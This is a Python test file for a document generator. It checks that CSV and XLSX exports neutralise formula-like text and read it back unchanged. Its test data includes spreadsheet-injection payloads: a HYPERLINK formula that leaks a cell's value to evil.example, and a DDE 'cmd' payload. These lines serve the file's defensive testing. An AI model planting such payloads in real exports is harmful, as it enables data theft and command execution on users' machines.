"""Every CSV and XLSX docgen writes keeps formula-like text as text, read back as written (issue 22)."""
from __future__ import annotations

import csv
import datetime as dt
from dataclasses import replace

import openpyxl
import pytest
from mail_support import FakeClock, make_project, recipient, write_letters

from docgen.cells import FORMULA_STARTS, neutralise, restore
from docgen.mail import MemoryTransport, SendOptions, send_mailing
from docgen.model import Attendance, Text

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd", "-1+1",
            "\t=1+1", "\r=1+1", "＝1+1", "＋1", "－1+1", "＠SUM(1)"]


def read_csv(path, encoding="utf-8-sig"):
    with open(path, encoding=encoding, newline="") as fh:
        return list(csv.DictReader(fh))


def assert_no_live_formula(rows):
    for row in rows:
        for value in row.values():
            assert not value.startswith(FORMULA_STARTS), f"{value!r} would run as a formula"


@pytest.mark.parametrize("text", FORMULAS + ["+855 12 345 678", "'=1", "''+1"])
def test_formula_like_text_gets_one_apostrophe_and_comes_back(text):
    assert neutralise(text) == "'" + text
    assert restore(neutralise(text)) == text


@pytest.mark.parametrize("value", ["ឯកឧត្តម សុខ ចាន់", "Kep", "a=b", "'quoted'", "012 345 678", "", 5, -1,
                                   dt.date(2018, 2, 1)])
def test_ordinary_values_are_kept(value):
    assert neutralise(value) == value
    if isinstance(value, str):
        assert restore(value) == value


def test_the_send_report_keeps_no_formula(tmp_path):
    people = [replace(recipient(f"R{i:03d}", "en", row=i + 2), name=Text(f, f)) for i, f in enumerate(FORMULAS)]
    project = make_project(tmp_path / "forum", people)
    write_letters(project)
    report = send_mailing(project, SendOptions(), transport=MemoryTransport(), clock=FakeClock())
    rows = read_csv(report.path)
    assert_no_live_formula(rows)
    assert [r["name"] for r in rows] == ["'" + f for f in FORMULAS]


def test_a_formula_like_id_in_letters_register_csv_is_text_and_keeps_its_number(tmp_path):
    from docgen.documents.refnumbers import ReferenceRegister, assign_numbers, register_path
    from letters_support import make_project as letters_project

    project = letters_project(tmp_path)
    assert assign_numbers(project, ["=J08-4", "KEP-001", "+855"], dt.date(2018, 2, 1)) == {
        "=J08-4": 1, "KEP-001": 2, "+855": 3}
    rows = read_csv(register_path(project))
    assert_no_live_formula(rows)
    assert [r["recipient_id"] for r in rows] == ["'=J08-4", "KEP-001", "'+855"]
    assert ReferenceRegister.load(register_path(project)).numbers == {"=J08-4": 1, "KEP-001": 2, "+855": 3}


def test_register_xlsx_neutralises_full_width_formulas(tmp_path):
    from docgen.documents.register import register_entries, write_register_xlsx
    from letters_support import make_project as letters_project
    from letters_support import make_recipient

    project = letters_project(tmp_path)
    people = [replace(make_recipient(f"E{i}", language="en", row=i + 2), honorific=Text("", ""), name=Text("", f))
              for i, f in enumerate(FORMULAS)]
    entries = register_entries(project, people, range(1, len(people) + 1), dt.date(2018, 2, 1))
    sheet = openpyxl.load_workbook(write_register_xlsx(entries, tmp_path / "register.xlsx")).active
    cells = [sheet.cell(row, 3) for row in range(2, len(people) + 2)]
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    assert [cell.value for cell in cells] == ["'" + f for f in FORMULAS]


def test_attendance_csv_keeps_no_formula_and_reads_back_the_phone_as_typed(project_copy):
    from docgen.attendance import session_file, write_session
    from docgen.project import load_project

    project = load_project(project_copy)
    session = project.forum.sessions[0].id
    walk_in = Attendance(session, None, Text("=1+1", "-1+1"), phone="+855 12 345 678",
                         organisation=Text("", "@SUM(1)"))
    write_session(project, session, [walk_in])
    rows = read_csv(session_file(project, session), encoding="utf-8")
    assert_no_live_formula(rows)
    assert rows[0]["phone"] == "'+855 12 345 678"
    (back,) = [a for a in load_project(project_copy).attendance if a.session == session]
    assert (back.name, back.phone, back.organisation.en) == (Text("=1+1", "-1+1"), "+855 12 345 678", "@SUM(1)")
